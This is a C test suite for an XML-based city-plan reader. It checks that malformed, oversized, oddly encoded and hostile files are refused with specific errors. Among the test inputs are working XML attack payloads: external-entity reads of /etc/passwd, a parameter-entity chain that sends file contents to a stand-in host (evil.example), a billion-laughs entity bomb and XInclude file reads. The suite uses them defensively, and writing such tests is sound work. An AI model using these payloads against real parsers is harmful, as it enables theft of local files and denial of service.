/* test-bad-input.c: hostile and broken files are refused quickly, with a specific error code
 * and a message that names the file. */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

#include <glib/gstdio.h>

#include "ccp-core.h"

/* Each case must be decided in well under this (a 3 GB file is never read). */
#define MAX_SECONDS 2.0

#define GOOD_ROOT \
  "<city-plan xmlns=\"urn:creativecities:plans:1\" version=\"1.0\" id=\"p\" revision=\"1\"" \
  " modified=\"2026-01-01T00:00:00Z\" status=\"draft\">"

static char *tmp_dir;

static char *
tmp_path (const char *name)
{
  return g_build_filename (tmp_dir, name, NULL);
}

static char *
write_tmp (const char *name,
           const char *data,
           gssize      length)
{
  char *path = tmp_path (name);

  if (length < 0)
    length = (gssize) strlen (data);
  g_assert_true (g_file_set_contents (path, data, length, NULL));
  return path;
}

/* Reads path through the whole stack and checks the error. Never returns a document. */
static void
assert_refused_path (const char *path,
                     GQuark      domain,
                     int         code,
                     const char *in_message,
                     const char *never)
{
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  g_autoptr(GObject) object = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GPtrArray) issues = NULL;
  g_autofree char *basename = g_path_get_basename (path);
  gint64 start = g_get_monotonic_time ();
  double seconds;

  object = ccp_reader_read_file (file, &bytes, &issues, NULL, NULL, &error);
  seconds = (g_get_monotonic_time () - start) / (double) G_USEC_PER_SEC;

  g_test_message ("%s: %s (%.3f s)", basename, error != NULL ? error->message : "no error",
                  seconds);
  g_assert_null (object);
  g_assert_null (issues);
  g_assert_error (error, domain, code);
  if (strstr (error->message, basename) == NULL)
    g_error ("message does not name the file %s: %s", basename, error->message);
  if (in_message != NULL && strstr (error->message, in_message) == NULL)
    g_error ("message does not contain “%s”: %s", in_message, error->message);
  if (never != NULL)
    g_assert_null (strstr (error->message, never));
  g_assert_cmpfloat (seconds, <, MAX_SECONDS);
}

static void
assert_refused (const char *name,
                const char *data,
                gssize      length,
                int         code,
                const char *in_message,
                const char *never)
{
  g_autofree char *path = write_tmp (name, data, length);

  assert_refused_path (path, CCP_ERROR, code, in_message, never);
  g_assert_cmpint (g_remove (path), ==, 0);
}

static void
test_not_well_formed (void)
{
  assert_refused ("broken.ccp",
                  "<?xml version=\"1.0\"?>\n" GOOD_ROOT "\n  <city country=\"IT\">Bologna\n"
                  "  </field>\n</city-plan>\n",
                  -1, CCP_ERROR_MALFORMED, "broken.ccp:4: not well-formed XML: ", NULL);
}

static void
test_truncated (void)
{
  const char *text = "<?xml version=\"1.0\"?>\n" GOOD_ROOT "\n"
                     "  <city country=\"IT\">Bologna</city>\n"
                     "  <field>mus";

  assert_refused ("truncated.ccp", text, -1, CCP_ERROR_MALFORMED, "not well-formed XML", NULL);
}

static void
test_wrong_root (void)
{
  assert_refused ("page.html", "<html><body>Hello</body></html>\n", -1,
                  CCP_ERROR_NOT_A_PLAN, "<html>", NULL);
}

static void
test_wrong_namespace (void)
{
  assert_refused ("other.ccp",
                  "<city-plan xmlns=\"urn:someone:else\" version=\"1.0\"/>\n", -1,
                  CCP_ERROR_NOT_A_PLAN, "urn:someone:else", NULL);
}

static void
test_newer_major (void)
{
  assert_refused ("future.ccp",
                  "<city-plan xmlns=\"urn:creativecities:plans:3\" version=\"3.1\"/>\n", -1,
                  CCP_ERROR_NEWER_VERSION, "newer version", NULL);
}

static void
test_doctype_internal_entity (void)
{
  assert_refused ("entity.ccp",
                  "<?xml version=\"1.0\"?>\n"
                  "<!DOCTYPE city-plan [\n"
                  "  <!ENTITY name \"Bologna\">\n"
                  "]>\n" GOOD_ROOT "<city country=\"IT\">&name;</city></city-plan>\n",
                  -1, CCP_ERROR_FORBIDDEN, "entity.ccp:2:", NULL);
}

/* The content of /etc/passwd must not appear anywhere: not in the message, and there is no
 * document to look into. */
static void
test_external_entity (void)
{
  assert_refused ("xxe.ccp",
                  "<?xml version=\"1.0\"?>\n"
                  "<!DOCTYPE city-plan [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n"
                  GOOD_ROOT "<city country=\"IT\">&xxe;</city></city-plan>\n",
                  -1, CCP_ERROR_FORBIDDEN, "DOCTYPE", "root:");
}

static void
test_external_dtd (void)
{
  assert_refused ("dtd.ccp",
                  "<!-- harmless comment first -->\n"
                  "<!DOCTYPE city-plan SYSTEM \"http://example.org/evil.dtd\">\n"
                  GOOD_ROOT "</city-plan>\n",
                  -1, CCP_ERROR_FORBIDDEN, "dtd.ccp:2:", NULL);
}

static void
test_parameter_entity (void)
{
  assert_refused ("param.ccp",
                  "<?xml version=\"1.0\"?>\n"
                  "<!DOCTYPE city-plan [\n"
                  "  <!ENTITY % file SYSTEM \"file:///etc/passwd\">\n"
                  "  <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM"
                  " 'http://evil.example/?%file;'>\">\n"
                  "  %eval;\n"
                  "  %exfil;\n"
                  "]>\n" GOOD_ROOT "</city-plan>\n",
                  -1, CCP_ERROR_FORBIDDEN, NULL, "root:");
}

static void
test_billion_laughs (void)
{
  GString *text = g_string_new ("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n"
                                "  <!ENTITY lol \"lol\">\n");

  for (guint i = 1; i <= 9; i++)
    {
      g_string_append_printf (text, "  <!ENTITY lol%u \"", i);
      for (guint j = 0; j < 10; j++)
        g_string_append_printf (text, i == 1 ? "&lol;" : "&lol%u;", i - 1);
      g_string_append (text, "\">\n");
    }
  g_string_append (text, "]>\n" GOOD_ROOT "<city country=\"IT\">&lol9;</city></city-plan>\n");

  assert_refused ("lolz.ccp", text->str, (gssize) text->len, CCP_ERROR_FORBIDDEN, NULL, NULL);
  g_string_free (text, TRUE);
}

static void
test_xinclude (void)
{
  assert_refused ("xinclude.ccp",
                  "<?xml version=\"1.0\"?>\n" GOOD_ROOT "\n"
                  "  <city country=\"IT\">\n"
                  "    <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\""
                  " href=\"file:///etc/passwd\" parse=\"text\"/>\n"
                  "  </city>\n</city-plan>\n",
                  -1, CCP_ERROR_FORBIDDEN, "xinclude.ccp:4:", "root:");
  assert_refused ("xinclude2003.ccp",
                  GOOD_ROOT "<include xmlns=\"http://www.w3.org/2003/XInclude\""
                  " href=\"/etc/passwd\"/></city-plan>\n",
                  -1, CCP_ERROR_FORBIDDEN, "XInclude", "root:");
}

static void
test_invalid_utf8 (void)
{
  assert_refused ("latin1.ccp",
                  "<?xml version=\"1.0\"?>\n" GOOD_ROOT "\n"
                  "<city country=\"FR\">Orl\xe9" "ans</city>"
                  "</city-plan>\n",
                  -1, CCP_ERROR_ENCODING, "latin1.ccp:3:", NULL);
}

static void
test_nul_byte (void)
{
  static const char text[] = "<?xml version=\"1.0\"?>\n" GOOD_ROOT
                             "<city>A\0B</city></city-plan>\n";

  assert_refused ("nul.ccp", text, sizeof text - 1, CCP_ERROR_ENCODING, "NUL", NULL);
}

static void
test_utf16 (void)
{
  const char *utf8 = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n" GOOD_ROOT "</city-plan>\n";
  g_autoptr(GError) error = NULL;
  gsize length = 0;
  g_autofree char *utf16 = g_convert (utf8, -1, "UTF-16LE", "UTF-8", NULL, &length, &error);
  g_autofree char *with_bom = NULL;

  g_assert_no_error (error);
  with_bom = g_malloc (length + 2);
  with_bom[0] = '\xff';
  with_bom[1] = '\xfe';
  memcpy (with_bom + 2, utf16, length);

  assert_refused ("utf16.ccp", with_bom, (gssize) length + 2, CCP_ERROR_ENCODING, "UTF-16",
                  NULL);
  /* Big endian without BOM too. */
  g_free (utf16);
  utf16 = g_convert (utf8, -1, "UTF-16BE", "UTF-8", NULL, &length, &error);
  g_assert_no_error (error);
  assert_refused ("utf16be.ccp", utf16, (gssize) length, CCP_ERROR_ENCODING, "UTF-16", NULL);
}

static void
test_gzip (void)
{
  const char *plan = "<?xml version=\"1.0\"?>\n" GOOD_ROOT "</city-plan>\n";
  g_autoptr(GZlibCompressor) compressor = g_zlib_compressor_new (G_ZLIB_COMPRESSOR_FORMAT_GZIP,
                                                                 -1);
  guint8 buffer[4096];
  gsize read = 0, written = 0;
  g_autoptr(GError) error = NULL;
  GConverterResult result;

  result = g_converter_convert (G_CONVERTER (compressor), plan, strlen (plan), buffer,
                                sizeof buffer, G_CONVERTER_INPUT_AT_END, &read, &written,
                                &error);
  g_assert_no_error (error);
  g_assert_cmpint (result, ==, G_CONVERTER_FINISHED);
  g_assert_cmpuint (buffer[0], ==, 0x1f);
  g_assert_cmpuint (buffer[1], ==, 0x8b);

  assert_refused ("plan.ccp.gz", (const char *) buffer, (gssize) written, CCP_ERROR_ENCODING,
                  "compressed", NULL);
}

static void
test_empty (void)
{
  assert_refused ("empty.ccp", "", 0, CCP_ERROR_EMPTY, NULL, NULL);
  /* Only whitespace: not empty, but no document. */
  assert_refused ("blank.ccp", "  \n\n", -1, CCP_ERROR_MALFORMED, NULL, NULL);
}

static void
test_deep_nesting (void)
{
  const guint depth = 100000;
  GString *text = g_string_sized_new (depth * 8 + 256);

  g_string_append (text, GOOD_ROOT "\n");
  for (guint i = 0; i < depth; i++)
    g_string_append (text, "<a>");
  for (guint i = 0; i < depth; i++)
    g_string_append (text, "</a>");
  g_string_append (text, "</city-plan>\n");

  assert_refused ("deep.ccp", text->str, (gssize) text->len, CCP_ERROR_MALFORMED,
                  "nested too deeply", NULL);
  g_string_free (text, TRUE);
}

static void
test_directory (void)
{
  g_autofree char *path = tmp_path ("folder.ccp");

  g_assert_cmpint (g_mkdir (path, 0700), ==, 0);
  assert_refused_path (path, CCP_ERROR, CCP_ERROR_NOT_REGULAR, "folder", NULL);
  g_assert_cmpint (g_rmdir (path), ==, 0);
}

static void
test_fifo (void)
{
  g_autofree char *path = tmp_path ("pipe.ccp");

  g_assert_cmpint (mkfifo (path, 0600), ==, 0);
  /* Opening a FIFO with no writer blocks: if the reader ever did, this kills the test
   * instead of hanging it. */
  alarm (10);
  assert_refused_path (path, CCP_ERROR, CCP_ERROR_NOT_REGULAR, "FIFO", NULL);
  alarm (0);
  g_assert_cmpint (g_remove (path), ==, 0);
}

static void
test_char_device (void)
{
  if (!g_file_test ("/dev/zero", G_FILE_TEST_EXISTS))
    {
      g_test_skip ("no /dev/zero on this system");
      return;
    }
  alarm (10);
  assert_refused_path ("/dev/zero", CCP_ERROR, CCP_ERROR_NOT_REGULAR, "device", NULL);
  alarm (0);
}

static void
test_symlink_loop (void)
{
  g_autofree char *a = tmp_path ("loop-a.ccp");
  g_autofree char *b = tmp_path ("loop-b.ccp");
  g_autofree char *dangling = tmp_path ("dangling.ccp");

  g_assert_cmpint (symlink (b, a), ==, 0);
  g_assert_cmpint (symlink (a, b), ==, 0);
  g_assert_cmpint (symlink ("/nonexistent/plan.ccp", dangling), ==, 0);

  assert_refused_path (a, CCP_ERROR, CCP_ERROR_NOT_REGULAR, "loop", NULL);
  assert_refused_path (dangling, CCP_ERROR, CCP_ERROR_NOT_REGULAR, "does not exist", NULL);

  g_assert_cmpint (g_remove (a), ==, 0);
  g_assert_cmpint (g_remove (b), ==, 0);
  g_assert_cmpint (g_remove (dangling), ==, 0);
}

static void
test_sparse_huge (void)
{
  g_autofree char *path = tmp_path ("huge.ccp");
  int fd = g_open (path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  g_autoptr(GError) error = NULL;

  g_assert_cmpint (fd, >=, 0);
  /* 3 GB of holes: takes no disk space, and must be refused by its size alone. */
  g_assert_cmpint (ftruncate (fd, (off_t) 3 * 1000 * 1000 * 1000), ==, 0);
  g_assert_true (g_close (fd, &error));

  assert_refused_path (path, CCP_ERROR, CCP_ERROR_TOO_LARGE, "GiB", NULL);
  /* The message gives the limit too. */
  assert_refused_path (path, CCP_ERROR, CCP_ERROR_TOO_LARGE, "64.0", NULL);
  g_assert_cmpint (g_remove (path), ==, 0);
}

static void
test_missing_file (void)
{
  g_autofree char *path = tmp_path ("missing.ccp");

  assert_refused_path (path, G_IO_ERROR, G_IO_ERROR_NOT_FOUND, NULL, NULL);
}

/* The same refusals from bytes (what the GUI and the merge use for files already read). */
static void
test_bytes_api (void)
{
  static const char nul[] = "<a>\0</a>";
  struct {
    const char *data;
    gsize length;
    int code;
  } cases[] = {
    { "", 0, CCP_ERROR_EMPTY },
    { nul, sizeof nul - 1, CCP_ERROR_ENCODING },
    { "\x1f\x8b\x08\x00", 4, CCP_ERROR_ENCODING },
    { "<!DOCTYPE x><x/>", 16, CCP_ERROR_FORBIDDEN },
    { "<!ENTITY x 'y'><x/>", 19, CCP_ERROR_FORBIDDEN },
    { "<x>", 3, CCP_ERROR_MALFORMED },
    { "<x:y/>", 6, CCP_ERROR_MALFORMED }, /* undeclared prefix */
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GBytes) bytes = g_bytes_new_static (cases[i].data, cases[i].length);
      g_autoptr(GError) error = NULL;
      g_autoptr(GObject) object = ccp_reader_read_bytes (bytes, "given-name.xml", NULL, NULL,
                                                         &error);

      g_assert_null (object);
      g_assert_error (error, CCP_ERROR, cases[i].code);
      g_assert_nonnull (strstr (error->message, "given-name.xml"));
    }
}

int
main (int   argc,
      char *argv[])
{
  g_autoptr(GError) error = NULL;
  int result;

  g_test_init (&argc, &argv, NULL);

  tmp_dir = g_dir_make_tmp ("ccp-bad-input-XXXXXX", &error);
  g_assert_no_error (error);

  g_test_add_func ("/bad-input/not-well-formed", test_not_well_formed);
  g_test_add_func ("/bad-input/truncated", test_truncated);
  g_test_add_func ("/bad-input/wrong-root", test_wrong_root);
  g_test_add_func ("/bad-input/wrong-namespace", test_wrong_namespace);
  g_test_add_func ("/bad-input/newer-major", test_newer_major);
  g_test_add_func ("/bad-input/doctype-internal-entity", test_doctype_internal_entity);
  g_test_add_func ("/bad-input/external-entity", test_external_entity);
  g_test_add_func ("/bad-input/external-dtd", test_external_dtd);
  g_test_add_func ("/bad-input/parameter-entity", test_parameter_entity);
  g_test_add_func ("/bad-input/billion-laughs", test_billion_laughs);
  g_test_add_func ("/bad-input/xinclude", test_xinclude);
  g_test_add_func ("/bad-input/invalid-utf8", test_invalid_utf8);
  g_test_add_func ("/bad-input/nul-byte", test_nul_byte);
  g_test_add_func ("/bad-input/utf16", test_utf16);
  g_test_add_func ("/bad-input/gzip", test_gzip);
  g_test_add_func ("/bad-input/empty", test_empty);
  g_test_add_func ("/bad-input/deep-nesting", test_deep_nesting);
  g_test_add_func ("/bad-input/directory", test_directory);
  g_test_add_func ("/bad-input/fifo", test_fifo);
  g_test_add_func ("/bad-input/char-device", test_char_device);
  g_test_add_func ("/bad-input/symlink-loop", test_symlink_loop);
  g_test_add_func ("/bad-input/sparse-huge", test_sparse_huge);
  g_test_add_func ("/bad-input/missing-file", test_missing_file);
  g_test_add_func ("/bad-input/bytes-api", test_bytes_api);

  result = g_test_run ();

  g_assert_cmpint (g_rmdir (tmp_dir), ==, 0);
  g_free (tmp_dir);
  return result;
}
